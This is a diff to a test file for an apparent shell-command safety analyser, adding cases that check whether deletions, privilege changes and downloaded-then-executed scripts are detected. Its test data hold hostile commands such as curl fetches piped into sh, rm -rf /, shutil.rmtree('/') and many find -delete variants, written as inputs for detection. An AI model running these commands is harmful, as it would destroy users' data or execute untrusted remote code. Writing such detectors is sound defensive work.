@@ -76,6 +76,11 @@ FETCHED = [
     ("curl -o x http://e/x; chmod +x x; ./x", "started by its name"),
     ("curl -o x http://e/x; . ./x", "sourced"),
     ("curl -o a http://e/x; cp a b; mv b c; sh c", "under another name"),
+    ("curl -s http://e/x | tee x.sh; sh x.sh", "by tee"),
+    ("curl -s http://e/x | sed 1d > x.sh; sh x.sh", "through a filter"),
+    ('x=$(curl -s http://e/x); echo "$x" > x.sh; sh x.sh', "through a variable"),
+    ("echo 'curl -s http://e/x | sh' > x.sh; sh x.sh", "in a script that the text wrote"),
+    ("gpg -d z > x.sh; sh x.sh", "what nobody knows"),
 ]
 READ = [
     ("curl -o d.json http://e/x; jq . d.json", "data for a filter"),
@@ -145,6 +150,29 @@ def test_runners_of_scripts_and_texts(command):
     assert ROOT in told(effects_of(command, world), Kind.DELETE)
 
 
+ASKED_FOR_HELP = [
+    ("./nuke.sh --help", True, "a script does with it what it likes"),
+    ("python3 -c \"import shutil; shutil.rmtree('/')\" --help", True, "an interpreter gives it to its text"),
+    ("rm --help -rf /", False, "rm stops there"),
+    ("bash --help", False, "nothing else is asked"),
+]
+
+
+@pytest.mark.parametrize(("command", "wanted"), [pytest.param(c, w, id=why) for c, w, why in ASKED_FOR_HELP])
+def test_help_is_asked_of_a_program_that_stops_there(command, wanted):
+    assert bool(told(effects_of(command, WORLD), Kind.DELETE)) is wanted
+
+
+def test_a_function_that_calls_itself_with_other_arguments_is_followed():
+    assert ROOT in told(effects_of('f() { "$@"; f rm -rf /; }; f true', WORLD), Kind.DELETE)
+
+
+def test_the_path_that_a_script_on_disk_sets_is_its_own():
+    world = repository({"activate": 'PATH=/x/bin:$PATH\nif [ -n "$OLD" ]; then PATH="$OLD"; fi\n'})
+    assert told(effects_of("source activate && pytest", world), Kind.PRIVILEGE) == []
+    assert told(effects_of("PATH=/usr/bin git push", world), Kind.PRIVILEGE) == ["privilege environment PATH"]
+
+
 FOUND = [
     ("find . -iname '.ENV' -delete", ["delete .env"], "in either case"),
     ("find . -type l -delete", ["delete link"], "links only"),
@@ -154,6 +182,21 @@ FOUND = [
     ("find sub -type f -exec truncate -s 0 {} +", ["delete sub contents recursive truncate"], "all is emptied"),
     ("find sub -user x -exec truncate -s 0 {} +", ["delete sub contents recursive truncate ?"], "some of it"),
     ("find . -exec echo --help ';' -delete", ["delete . contents recursive"], "help is asked of another"),
+    ("find . -name zz -o -delete", ["delete . contents recursive ?"], "an alternative without a name"),
+    ("find . -name zz -delete , -delete", ["delete . contents recursive ?"], "a list of two"),
+    ("find . ! '(' -name zz -o -name y ')' -delete", ["delete . contents recursive ?"], "all but what is named"),
+    ("find . '(' -name zz -o -name '*.log' ')' -delete", ["delete old.log"], "a name in each alternative"),
+    ("find . -name '*.log' -o -name '*.md' -delete", ["delete old.log", "delete README.md"], "each has one"),
+    ("find . -path ./sub -prune -o -name '*.log' -delete", ["delete old.log ?"], "a folder is left out"),
+    ("find . -path ./sub -prune -o -name '*.log' -print | xargs rm", ["delete old.log"], "the same, listed"),
+    ("find . -name '*.log' -delete -o -empty -delete", ["delete old.log ?"], "what is empty is no loss"),
+    ("find . -name zz -exec rm sub/a ';'", ["delete sub/a ?"], "a match may come before it runs"),
+    ("find . -name zz -exec rm {} ';'", [], "without a match there is no operand"),
+    ("echo x > deep/er/zz; find . -name zz -exec rm {} +", ["delete deep/er/zz"], "made by the text, further down"),
+    ("find -O3 -D tree sub -name a -delete", ["delete sub/a"], "options before the start"),
+    ("find . -name '\\.en\\v' -delete", ["delete .env"], "backslashes"),
+    ("find . -name '.[[:alpha:]]nv' -delete", ["delete .env"], "a named class"),
+    ("find . -iname '.[E]NV' -delete", ["delete .env"], "a bracket in either case"),
 ]
 
 
@@ -169,6 +212,12 @@ def test_a_change_of_all_that_is_found_is_one_of_the_folder():
 
 
 LISTED = [
+    ("echo '-rf sub' | xargs -L1 rm", ["delete sub force recursive"], "xargs: a line is split into words"),
+    ("printf README.md~old.log | xargs -d '\\x7e' rm", ["delete README.md", "delete old.log"], "xargs: a delimiter"),
+    ("echo sub | xargs -i@ rm -r @", ["delete sub recursive"], "xargs: a mark of its own"),
+    ("echo sub | xargs --replace rm -r {}", ["delete sub recursive"], "xargs: the value is left out"),
+    ("echo old.logxsub | parallel --colsep x rm -r {2}", ["delete sub recursive"], "parallel: a column"),
+    ("echo sub/a | parallel rm -r {//}", ["delete sub recursive"], "parallel: the folder"),
     ("ls *.log | xargs rm -f", ["delete old.log force"], "a glob, listed"),
     ("ls sub | xargs rm", ["delete a"], "names without their folder"),
     ("rm $(ls sub/*)", ["delete sub/a"], "substituted"),
